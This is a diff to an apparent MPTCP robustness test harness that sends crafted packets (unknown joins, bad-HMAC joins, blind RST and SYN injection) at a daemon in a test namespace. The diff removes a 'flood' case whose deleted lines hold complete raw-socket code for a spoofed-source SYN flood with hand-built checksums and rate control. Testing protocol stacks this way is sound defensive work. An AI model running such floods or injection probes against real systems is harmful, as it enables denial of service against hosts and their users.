@@ -15,8 +15,6 @@ namespace and answered as sniffed there. Each case prints one JSON line of what 
     blind         --count N    RFC 5961 on the live subflow (in-window seq/ack sniffed from it):
                                RSTs in the window but not at rcv.nxt, SYNs in the window, RSTs and
                                data outside it; counts the daemon's pure ACKs (challenge ACKs)
-    flood         --count N    SYNs (MP_CAPABLE) from random sources in 198.18.0.0/15 through a raw
-                               AF_PACKET socket (scapy is too slow for 10^5)
 
 Debian's python3-scapy is in Debian's /usr/bin/python3 (another python3 may come first on the PATH).
 Attack source ports are 61000-61999 (above Linux's ephemeral range); the caller drops the kernel's
@@ -270,63 +268,15 @@ def case_blind(a):
     return res
 
 
-def csum(data):
-    if len(data) % 2:
-        data += b"\0"
-    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
-    while s >> 16:
-        s = (s & 0xFFFF) + (s >> 16)
-    return s
-
-
-def case_flood(a):
-    """Raw frames: Ethernet, IP, TCP SYN with MSS and MP_CAPABLE v1; random source address and port."""
-    dmac = bytes.fromhex(getmacbyip(a.gw).replace(":", ""))
-    smac = bytes.fromhex(open(f"/sys/class/net/{a.iface}/address").read().strip().replace(":", ""))
-    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
-    sock.bind((a.iface, 0))
-    eth = dmac + smac + b"\x08\x00"
-    dst = socket.inet_aton(a.dst)
-    opts = bytes([2, 4, 0x05, 0xB4, MPTCP, 4, 0x01, 0x01])  # MSS 1460, MP_CAPABLE v1 flags H
-    tcp_len = 20 + len(opts)
-    # the fixed part of the TCP checksum: destination address, protocol, length, dport, flags, window, options
-    fixed = csum(dst + struct.pack("!HH", 6, tcp_len) + struct.pack("!HBBHH", a.dport, (tcp_len // 4) << 4, 0x02, 64240, 0) + opts)
-    rnd = random.Random(a.seed)
-    t0 = time.time()
-    for i in range(a.count):
-        src = struct.pack("!BBH", 198, 18 + rnd.getrandbits(1), rnd.getrandbits(16))
-        sport = 1024 + rnd.getrandbits(15)
-        seq = rnd.getrandbits(32)
-        s = fixed + csum(src) + sport + (seq >> 16) + (seq & 0xFFFF)
-        while s >> 16:
-            s = (s & 0xFFFF) + (s >> 16)
-        tcp = struct.pack("!HHIIBBHHH", sport, a.dport, seq, 0, (tcp_len // 4) << 4, 0x02, 64240, ~s & 0xFFFF, 0) + opts
-        iph = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + tcp_len, i & 0xFFFF, 0, 64, 6, 0, src, dst)
-        iph = iph[:10] + struct.pack("!H", ~csum(iph) & 0xFFFF) + iph[12:]
-        while True:
-            try:
-                sock.send(eth + iph + tcp)
-                break
-            except OSError:  # ENOBUFS: the device queue is full
-                time.sleep(0.001)
-        if a.rate and i % 100 == 99:
-            ahead = (i + 1) / a.rate - (time.time() - t0)
-            if ahead > 0:
-                time.sleep(ahead)
-    return {"sent": a.count, "seconds": round(time.time() - t0, 2)}
-
-
 def main():
     ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
-    ap.add_argument("case", choices=["join-unknown", "join-bad-hmac", "add-addr", "blind", "flood"])
+    ap.add_argument("case", choices=["join-unknown", "join-bad-hmac", "add-addr", "blind"])
     ap.add_argument("--iface", required=True)
     ap.add_argument("--gw", required=True, help="the next hop (its MAC address is resolved)")
     ap.add_argument("--src", required=True)
     ap.add_argument("--dst", required=True)
     ap.add_argument("--dport", type=int, required=True)
     ap.add_argument("--count", type=int, default=100)
-    ap.add_argument("--rate", type=int, default=0, help="flood: packets a second (0: as fast as it goes)")
-    ap.add_argument("--seed", type=int, default=1)
     ap.add_argument("--join-src")
     ap.add_argument("--hs-iface", help="where the MP_CAPABLE handshake is sniffed (default --iface)")
     ap.add_argument("--client-port", type=int)
@@ -336,7 +286,7 @@ def main():
     ap.add_argument("--timeout", type=float, default=20.0)
     a = ap.parse_args()
     fn = {"join-unknown": case_join_unknown, "join-bad-hmac": case_join_bad_hmac, "add-addr": case_add_addr,
-          "blind": case_blind, "flood": case_flood}[a.case]
+          "blind": case_blind}[a.case]
     print(json.dumps(fn(a)), flush=True)
 
 
